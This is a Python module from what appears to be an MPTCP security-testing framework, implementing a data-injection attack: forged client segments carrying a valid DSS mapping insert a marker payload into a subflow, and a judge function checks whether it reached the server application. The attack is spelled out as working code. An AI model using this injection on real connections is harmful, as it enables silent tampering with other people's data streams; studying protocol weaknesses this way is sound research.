"""Attack 5, data injection into a subflow with a valid DSS mapping: change the bytes the application reads.

Source: RFC 6181 (an on-path attacker can inject data into a subflow) and RFC 8684 §3.3.1 (MPTCP's DSS
checksum, off by default in Linux, is its only defence and is no MAC anyway); FACTS: with the DSS checksum off a
payload changed on one path is silent corruption.

Right after a client data segment on path 1, the attacker knows the server's next subflow sequence number (that
segment's end) and the next data sequence number (its DSS mapping's end, or the server's latest DATA_ACK). It
forges a segment from the client at exactly that point, with a DSS mapping for its own bytes
(`INJECTED-BY-ATTACKER-nn`). The server's MPTCP layer delivers them in place of the client's next bytes, which it
later discards as duplicates.

Effect measured: the attacker's marker in the server application's stream, upload sha256 changed.
"""

from __future__ import annotations

import time

from mptcrypt.attacks.common import ACK, INJECT_MARK, PSH, mptcp_opt, rcv_nxt_at_server, spoof_to_server
from mptcrypt.attacks.judging import decide
from mptcrypt.attacks.runner import Evidence, Verdict
from mptcrypt.wire.mptcp import MptcpOption

NUMBER = 5
TITLE = "data injection with a valid DSS mapping"
SOURCE = "RFC 6181; RFC 8684 §3.3.1 (DSS checksum)"
ATTEMPTS = 5


def attack(agent) -> dict:
    v = agent.view
    if v.cport is None or v.c2s.isn is None:
        return {"skipped": "no connection"}
    sent = 0
    for i in range(ATTEMPTS):
        if agent.next_upload_segment(timeout=0.6) is None:
            continue
        dsn = v.next_dsn_c2s()
        seq = rcv_nxt_at_server(v)
        if dsn is None or seq is None:
            continue
        payload = INJECT_MARK + b"-%02d\n" % i
        dss = MptcpOption.dss(data_seq=dsn, subflow_seq=(seq - v.c2s.isn) & 0xFFFFFFFF, data_len=len(payload))
        agent.send(spoof_to_server(v, ACK | PSH, [mptcp_opt(dss)], payload, seq=seq),
                   "data with DSS mapping (spoofed client -> server)", seq=seq, dsn=dsn, bytes=len(payload))
        sent += 1
        agent.pump(time.time() + 0.2)
    return {"injections": sent}


def judge(ev: Evidence) -> Verdict:
    up = ev.transfer["upload"]
    evidence = {
        "injections_sent": ev.result.get("injections", 0),
        "markers_in_server_app": up["injected_markers"],
        "upload_sha256_intact": up["intact"],
    }
    effective = up["injected_markers"] > 0
    return decide(ev, effective,
                  f"{up['injected_markers']} injected chunks reached the server app (upload sha256 changed)",
                  "forged data dropped: no marker in the server app", evidence)
